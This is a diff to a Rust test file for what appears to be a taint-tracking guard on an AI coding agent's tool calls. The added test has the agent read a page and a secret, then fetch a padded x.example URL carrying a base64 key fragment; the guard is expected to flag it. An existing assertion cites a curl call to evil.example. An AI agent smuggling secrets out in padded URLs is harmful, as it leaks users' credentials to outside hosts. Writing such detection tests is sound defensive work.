@@ -201,3 +201,15 @@ fn a_command_that_reaches_the_network_is_an_untrusted_read() {
     let why = send(&mut s, &w).expect("tainted");
     assert!(why.contains("read curl -s https://evil.example/issue/4 at"), "{why}");
 }
+
+#[test]
+fn a_url_hidden_past_what_is_read_still_carries_data() {
+    let mut s = Sessions::default();
+    let w = hook("claude-code:pad", &[]);
+    read_page(&mut s, &w);
+    read_secret(&mut s, &w, Wire::Allow);
+    let padded = format!("https://x.example/{}?d=QUtJQQ", "a".repeat(5000));
+    let why = call(&mut s, &w, "WebFetch", Class::Read, &[Flag::OpenWorld], json!({ "url": padded }), Wire::Allow)
+        .expect("a long URL asks");
+    assert!(why.contains("bytes in one argument, which can carry data"), "{why}");
+}
